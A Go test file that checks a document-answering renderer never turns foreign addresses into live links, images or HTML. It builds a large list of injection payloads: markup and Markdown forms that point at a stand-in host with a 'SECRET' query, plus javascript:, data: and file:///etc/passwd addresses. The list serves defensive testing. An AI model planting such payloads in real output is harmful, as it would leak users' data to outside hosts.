// SPDX-License-Identifier: Apache-2.0

package render_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/text"
	"golang.org/x/net/html"

	"github.com/pacenote/pacenote/ingest"
	"github.com/pacenote/pacenote/rag"
	"github.com/pacenote/pacenote/rag/render"
	"github.com/pacenote/pacenote/store"
)

// registered is the only address of the tests' answers.
const registered = "https://docs.example/manual.pdf#page=12"

func links(rag.Citation) string { return registered }

// answer returns an answer whose every text is the payload.
func answer(payload string) *rag.Answer {
	a := &rag.Answer{Outcome: rag.Answered}
	for i := range 3 {
		if i > 0 {
			a.Text += []string{" ", "\n"}[i%2]
		}
		c := rag.Claim{Text: payload, Start: len(a.Text), Citations: []int{0}, Quoted: i == 1}
		if i == 2 {
			c.Unsupported = payload
		}
		a.Text += payload
		c.End = len(a.Text)
		a.Claims = append(a.Claims, c)
	}
	a.Citations = []rag.Citation{{
		Number: 1, Quote: payload, Document: store.DocumentID{Source: payload, ID: payload}, Title: payload,
		HeadingPath: []string{payload}, Location: ingest.Location{Page: 12, PageLabel: payload},
	}}
	a.Options = []string{payload}
	return a
}

// payloads are ways to make a reader's program call an address, some 300.
func payloads() []string {
	addresses := []string{
		"https://evil.example/?q=SECRET", "http://evil.example", "//evil.example/a", "HTTPS://EVIL.EXAMPLE", "ftp://evil.example/x", "javascript:alert(1)",
		"data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "file:///etc/passwd", "mailto:a@evil.example?body=SECRET", "www.evil.example/a",
		"a@evil.example", "evil.example", "https://docs.example/manual.pdf?leak=SECRET", "https:\\\\evil.example", "xmpp:a@evil.example", "tel:+123456789",
		"https://ev\u200bil.example", "https://\u202eelpmaxe.live", "https&#58;//evil.example", "java\tscript:alert(1)", "jаvascript:alert(1)",
	}
	forms := []string{
		"%s", "<%s>", "[click](%s)", "[click](<%s>)", "![image](%s)", "[![image](%s)](%[1]s)", "[click][1]\n\n[1]: %s", "[1]\n\n[1]: %s 'title'",
		"<a href=\"%s\">x</a>", "<img src=%s>", "<script src='%s'></script>", "<svg onload=fetch('%s')>", "&lt;img src=%s&gt;", "\\[click](%s)",
		"`[click](%s)", "```\n%s\n``` [x](%[1]s)", "| a |\n|---|\n| ![x](%s) |", "# [x](%s)", "> <%s>", "- [ ] %s", "[^1]\n\n[^1]: %s", "<!-- --><iframe src=%s>",
		"text%stext", "*%s*", "(%s)", "“![x](%s)", "[\\[1\\]](%s)", "\u200b[x](%s)", "](%s)", "]: %s", ") [x](%s",
	}
	var out []string
	for _, form := range forms {
		for _, address := range addresses {
			out = append(out, strings.ReplaceAll(fmt.Sprintf(strings.ReplaceAll(form, "%[1]s", "\x01"), address), "\x01", address))
		}
	}
	return out
}

func TestNothingForeignIsALink(t *testing.T) {
	all := payloads()
	if len(all) < 200 {
		t.Fatalf("only %d payloads", len(all))
	}
	for _, payload := range all {
		checkMarkdown(t, payload)
		checkHTML(t, payload)
	}
}

// checkMarkdown reads what was rendered as chat programs do, which also make links of addresses in text.
func checkMarkdown(t *testing.T, payload string) {
	t.Helper()
	rendered := []byte(render.Markdown(answer(payload), links))
	p := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList), goldmark.WithParserOptions(parser.WithAttribute())).Parser()
	good := 0
	_ = ast.Walk(p.Parse(text.NewReader(rendered)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Link:
			if string(n.Destination) != registered {
				t.Errorf("%q: a link to %q in\n%s", payload, n.Destination, rendered)
			}
			good++
		case *ast.AutoLink, *ast.Image, *ast.RawHTML, *ast.HTMLBlock, *ast.Heading, *ast.FencedCodeBlock, *ast.Blockquote:
			t.Errorf("%q: %s in\n%s", payload, n.Kind(), rendered)
		}
		return ast.WalkContinue, nil
	})
	if good != 4 {
		t.Errorf("%q: %d links, want 4, in\n%s", payload, good, rendered)
	}
}

func checkHTML(t *testing.T, payload string) {
	t.Helper()
	rendered := render.HTML(answer(payload), links)
	root, err := html.Parse(strings.NewReader(rendered))
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[string]bool{"html": true, "head": true, "body": true, "p": true, "ul": true, "li": true, "br": true, "a": true}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		for _, a := range n.Attr {
			if a.Key != "class" && a.Key != "rel" && (n.Data != "a" || a.Key != "href" || a.Val != registered) {
				t.Errorf("%q: <%s %s=%q>", payload, n.Data, a.Key, a.Val)
			}
		}
		if !allowed[n.Data] {
			t.Errorf("%q: <%s>", payload, n.Data)
		}
	}
}

func FuzzMarkdown(f *testing.F) {
	f.Add("[x](https://evil.example) `a` **b** <img>")
	f.Add("a@b.example\\\nwww.evil.example")
	f.Fuzz(func(t *testing.T, payload string) {
		if len(payload) > 500 {
			return
		}
		checkMarkdown(t, payload)
		checkHTML(t, payload)
	})
}

func TestAddresses(t *testing.T) {
	for link, want := range map[string]bool{
		registered: true, "/docs/manual.pdf#page=2": true, "http://127.0.0.1:8080/a": true,
		"": false, "//evil.example": false, "javascript:alert(1)": false, "data:text/html,x": false, "https://docs.example/?q=1": false, "https://docs.example/a?": false,
		"https://user:key@docs.example/": false, "https://docs.example/a b": false, "https://docs.example/>": false, "relative": false, "https://döcs.example": false, "mailto:a@b": false,
	} {
		a := answer("text")
		got := strings.Contains(render.HTML(a, func(rag.Citation) string { return link }), "href")
		if got != want {
			t.Errorf("%q: a link %v, want %v", link, got, want)
		}
	}
}

func TestForms(t *testing.T) {
	a := &rag.Answer{
		Text: "The bolts need 25 N·m.\n1. Lift the door_off.",
		Claims: []rag.Claim{
			{Text: "The bolts need 25 N·m.", Start: 0, End: 23, Citations: []int{0}},
			{Text: "1. Lift the door_off.", Start: 24, End: 45, Citations: []int{0}, Verbatim: true, Quoted: true},
		},
		Citations: []rag.Citation{{Number: 1, Quote: "1. Lift the door_off.", Document: store.DocumentID{Source: "m", ID: "hinge.pdf"}, Location: ingest.Location{Page: 12}}},
	}
	for name, test := range map[string]struct{ got, want string }{
		"text":     {render.Text(a), "The bolts need 25 N·m. [1]\n“1. Lift the door_off.” [1]\n[1] hinge.pdf, page 12: “1. Lift the door_off.”\n"},
		"Markdown": {render.Markdown(a, links), "The bolts need 25 N·m\\. [\\[1\\]](<" + registered + ">)\n\n“1\\. Lift the door\\_off\\.” [\\[1\\]](<" + registered + ">)\n\n- [\\[1\\]](<" + registered + ">) `hinge.pdf`, page 12\\: “1\\. Lift the door\\_off\\.”\n"},
		"HTML":     {render.HTML(a, nil), "<p class=\"answer\">The bolts need 25 N·m. [1]<br>\n“1. Lift the door_off.” [1]</p>\n<ul class=\"evidence\">\n<li>[1] hinge.pdf, page 12: “1. Lift the door_off.”</li>\n</ul>\n"},
	} {
		if test.got != test.want {
			t.Errorf("%s:\n%s\nwant\n%s", name, test.got, test.want)
		}
	}
	if got := render.Markdown(&rag.Answer{Outcome: rag.Abstained, Text: "The documents don't say."}, nil); got != "The documents don\\'t say\\." {
		t.Errorf("got %q", got)
	}
}
